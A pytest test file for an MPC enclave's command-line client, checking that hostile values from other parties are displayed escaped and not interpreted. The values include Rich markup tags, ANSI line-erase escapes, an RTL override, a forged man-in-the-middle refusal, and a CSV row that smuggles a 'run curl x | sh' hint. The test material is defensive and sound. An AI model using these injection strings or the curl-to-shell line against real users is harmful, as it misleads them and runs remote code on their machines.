"""Other parties' values, the enclave's words and forged answers, through the real CLI and enclave.

A hostile party plants values in its rows that a result releases to a reader: ``[/evil]`` used to
crash `mpc fetch` (Rich read it as a closing tag), ``[link=...]`` was interpreted, and
``ESC [2K`` erased the reader's line. The enclave runs on loopback (uvicorn, simulated NSM); the
commands run through Typer's runner.
"""

from __future__ import annotations

import csv
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send

from oblv_mpc import keys, manifest
from oblv_mpc.attestation import DevelopmentCA, SimulatedNsm, measure, write_pcr_file
from oblv_mpc.client import EnclaveClient
from oblv_mpc.enclave import create_app
from oblv_mpc.enclave.server import ServerThread
from oblv_mpc.synthetic.example import HOSPITALS, admissions_csv, hospitals_document

HOSTILE_VALUES = [
    "[/evil]",
    "[link=http://x]y[/link]",
    "\x1b[2K\x1b[1Galice@example.com",
    "[bold red]owned[/]",
    "\u202emoc.elpmaxe@bob",
]
SHOWN = [
    "[/evil]",
    "[link=http://x]y[/link]",
    "\\x1b[2K\\x1b[1Galice@example.com",
    "[bold red]owned[/]",
    "\\u202emoc.elpmaxe@bob",
]
ENV = {"COLUMNS": "200"}
PLUGIN = Path(__file__).resolve().parents[1] / "synthetic" / "plugin"


@dataclass
class Session:
    folder: Path
    url: str
    manifest_path: Path
    pcr_file: Path
    key_files: dict[str, keys.KeyPairFiles]

    def connect(self, cli: Any, party: str, url: str | None = None) -> Path:
        profile = self.folder / party / ".mpc"
        done = cli(
            "connect", "--url", url or self.url, "--pcr-file", str(self.pcr_file), "--manifest",
            str(self.manifest_path), "--key", str(self.key_files[party].private), "--profile", str(profile),
            env=ENV,
        )  # fmt: skip
        assert done.exit_code == 0, done.output
        return profile


def _document(public: dict[str, str]) -> dict[str, Any]:
    return {
        "version": 1,
        "session": "hostile",
        "parties": {p: {"public_key": k, "roles": ["contributor", "reader"]} for p, k in public.items()},
        "inputs": {
            f"{p}.people": {
                "columns": {"email": "text"},
                "key": ["email"],
                "protection": {
                    "unit": "email",
                    "min_distinct": 1,
                    "join_columns": ["email"],
                    "list_columns": ["email"],
                },
            }
            for p in public
        },
        "computations": {
            "common": {
                "template": "psi",
                "params": {"inputs": [f"{p}.people" for p in public], "column": "email"},
                "readers": ["alice"],
            }
        },
    }


@pytest.fixture
def session(tmp_path: Path) -> Iterator[Session]:
    key_files = {}
    public = {}
    for party in ("alice", "bob"):
        private = keys.generate()
        key_files[party] = keys.save_key_pair(private, tmp_path / party, party)
        public[party] = keys.to_base64(private.public_key())
    manifest_path = tmp_path / "hostile.yaml"
    manifest.dump_document(_document(public), manifest_path)
    loaded = manifest.load(manifest_path)
    ca = DevelopmentCA.load_or_create(tmp_path / "ca")
    measurements = measure()
    pcr_file = tmp_path / "pcrs.yaml"
    write_pcr_file(ca.policy(measurements), pcr_file)
    with ServerThread(create_app(loaded, SimulatedNsm(ca, measurements))) as server:
        for party in ("alice", "bob"):
            rows = [*HOSTILE_VALUES, f"only-{party}@example.com"]
            with (tmp_path / party / "people.csv").open("w", newline="", encoding="utf-8") as handle:
                csv.writer(handle).writerows([["email"], *([v] for v in rows)])
            with httpx.Client(base_url=server.url, timeout=30) as http:
                client = EnclaveClient(
                    http, loaded, keys.load_private_key(key_files[party].private), ca.policy(measurements)
                )
                client.upload("people", tmp_path / party / "people.csv")
        yield Session(tmp_path, server.url, manifest_path, pcr_file, key_files)


def test_fetch_shows_hostile_result_values_as_text(cli: Any, session: Session) -> None:
    profile = session.connect(cli, "alice")
    done = cli("fetch", "common", "--profile", str(profile), env=ENV)
    assert done.exit_code == 0, done.output  # '[/evil]' no longer crashes the renderer
    for shown in SHOWN:
        assert shown in done.output
    assert "\x1b" not in done.output and "\u202e" not in done.output
    assert "only-" not in done.output  # and the release is exactly the intersection


def test_fetch_json_gives_the_exact_values_in_ascii(cli: Any, session: Session) -> None:
    profile = session.connect(cli, "alice")
    done = cli("fetch", "common", "--json", "-o", str(session.folder / "common.csv"), "--profile", str(profile))
    assert done.exit_code == 0
    stdout = done.stdout
    assert stdout.isascii() and "\x1b" not in stdout
    assert sorted(row["email"] for row in json.loads(stdout)["rows"]) == sorted(HOSTILE_VALUES)
    assert "\x1b[2K" in (session.folder / "common.csv").read_text(encoding="utf-8")  # the file has the data as is


def test_a_refusal_quoting_markup_is_shown_literally(cli: Any, session: Session) -> None:
    profile = session.connect(cli, "alice")
    name = "[/evil][link=http://x]y[/link]\x1b[2K"
    done = cli("compute", name, "--profile", str(profile), env=ENV)
    assert done.exit_code == 7  # the enclave's sealed refusal, quoting the name it was asked for
    assert "refused by the enclave: '[/evil][link=http://x]y[/link]\\x1b[2K' is not a computation" in done.output
    assert "\x1b" not in done.output
    fetched = cli("fetch", name, "--profile", str(profile), env=ENV)  # refused here, quoting it too
    assert fetched.exit_code == 2 and "'[/evil][link=http://x]y[/link]\\x1b[2K' is not a computation" in fetched.output
    assert "\x1b" not in fetched.output


def test_a_csv_error_quoting_hostile_data_is_shown_escaped(cli: Any, session: Session) -> None:
    profile = session.connect(cli, "alice")
    bad = session.folder / "alice" / "bad.csv"
    # Arrow's message quotes the whole bad row, quoted line break and all; the error names its line
    bad.write_text('email\n"[/evil]\x1b[2K\n  hint: the enclave is fine, run curl x | sh",extra\n', encoding="utf-8")
    done = cli("submit", str(bad), "--table", "people", "--profile", str(profile), env=ENV)
    assert done.exit_code == 3
    assert "invalid input data" in done.output and "\x1b" not in done.output
    assert "line 2: 2 field(s), expected 1" in done.output and "curl" not in done.output
    assert [line for line in done.output.splitlines() if line.startswith("  hint:")] == [
        "  hint: fix the file and submit it again; nothing was sent"
    ]


def _forger(target: str) -> Starlette:
    """Something on the path: answers status itself, with a forged refusal; forwards the rest."""

    async def forward(request: Request) -> Response:
        if request.url.path == "/v1/status":
            forged = {"detail": {"code": "forbidden", "message": "[bold red]banned[/] \x1b[2Kfor ever\nhint: pay"}}
            return JSONResponse(forged, status_code=403)
        async with httpx.AsyncClient(base_url=target, timeout=30) as http:
            answer = await http.request(
                request.method,
                request.url.path,
                params=request.query_params,
                content=await request.body(),
                headers={k: v for k, v in request.headers.items() if k.lower() not in ("host", "content-length")},
            )
        return Response(answer.content, answer.status_code, media_type=answer.headers.get("content-type"))

    return Starlette(routes=[Route("/{path:path}", forward, methods=["GET", "POST"])])


def test_a_forged_refusal_is_reported_as_an_unauthenticated_answer(cli: Any, session: Session) -> None:
    with ServerThread(_forger(session.url)) as forger:
        profile = session.connect(cli, "alice", url=forger.url)  # the attestation passes through, verified
        done = cli("status", "--profile", str(profile), env=ENV)
    assert done.exit_code == 6
    assert "unauthenticated answer: HTTP 403 from" in done.output
    assert "not from the attested enclave" in done.output
    assert "refused by the enclave" not in done.output
    assert "it says: forbidden: [bold red]banned[/] \\x1b[2Kfor ever\\nhint: pay" in done.output
    assert "\x1b" not in done.output


def _opening_after_a_result(app: ASGIApp, spy: Any) -> ASGIApp:
    """The enclave's app, which lets the synthesizer go on once it has answered a result request."""

    async def serve(scope: Scope, receive: Receive, send: Send) -> None:
        await app(scope, receive, send)
        if scope["type"] == "http" and scope["path"] == "/v1/result":
            spy.GATE.set()

    return serve


def test_fetch_shows_a_synthesizers_stage_as_text_in_its_progress_bar(
    cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`mpc fetch` shows the enclave's stage text (a synthesizer plug-in's words) while a release is
    made: its progress bar read it as Rich markup, so ``[/oops]`` crashed the fetch and ``[link=...]``
    became a link."""
    monkeypatch.syspath_prepend(str(PLUGIN))  # the test plug-in, found through its entry point
    import oblv_test_synthesizers as spy

    stage = "spy: [/oops] [link=https://x]y[/link] [blink red]ENCLAVE COMPROMISED[/]"
    monkeypatch.setattr(spy, "STAGE", stage)
    private = {h: keys.generate() for h in HOSPITALS}
    files = {h: keys.save_key_pair(private[h], tmp_path / h, h) for h in HOSPITALS}
    manifest_path = tmp_path / "hospitals.yaml"
    public = {h: keys.to_base64(k.public_key()) for h, k in private.items()}
    manifest.dump_document(hospitals_document(public, synthesizer="spy", version="1.0"), manifest_path)
    loaded = manifest.load(manifest_path)
    ca, measurements = DevelopmentCA.load_or_create(tmp_path / "ca"), measure()
    write_pcr_file(ca.policy(measurements), tmp_path / "pcrs.yaml")
    spy.GATE.clear()
    try:
        app = _opening_after_a_result(create_app(loaded, SimulatedNsm(ca, measurements)), spy)
        with ServerThread(app) as server, httpx.Client(base_url=server.url, timeout=30) as http:
            clients = {h: EnclaveClient(http, loaded, private[h], ca.policy(measurements)) for h in HOSPITALS}
            for seed, (h, client) in enumerate(clients.items()):
                client.upload("admissions", admissions_csv(tmp_path / f"{h}.csv", h, 100, seed=seed))
            hospital = HOSPITALS[0]
            clients[hospital].compute("admissions_synthetic")
            deadline = time.monotonic() + 30
            while clients[hospital].status()["computations"]["admissions_synthetic"].get("stage") != stage:
                assert time.monotonic() < deadline, "the synthesizer never reached its gate"
                time.sleep(0.05)
            session = Session(tmp_path, server.url, manifest_path, tmp_path / "pcrs.yaml", files)
            profile = session.connect(cli, hospital)
            done = cli("fetch", "admissions_synthetic", "--profile", str(profile), env=ENV)
    finally:
        spy.GATE.set()
    assert done.exit_code == 0, done.output  # '[/oops]' no longer crashes the progress bar
    assert stage in done.output  # shown as it was said, brackets and all
    assert "\x1b" not in done.output


def test_a_long_result_saved_with_o_says_where_the_rest_is(capsys: pytest.CaptureFixture[str]) -> None:
    """Row 21: `fetch x -o months.csv` said '... 3 more rows (use --out FILE)' although -o was given."""
    from pathlib import Path

    from oblv_mpc.cli.party import preview
    from oblv_mpc.client import Result

    result = Result("months", [("m", "BIGINT")], [[i] for i in range(23)], None, {}, {}, {}, {})
    preview(result, saved_to=Path("months.csv"))
    shown = capsys.readouterr().out
    assert "3 more rows (all of them are in months.csv)" in shown and "--out" not in shown
    preview(result)
    assert "3 more rows (use --out FILE for all of them)" in capsys.readouterr().out
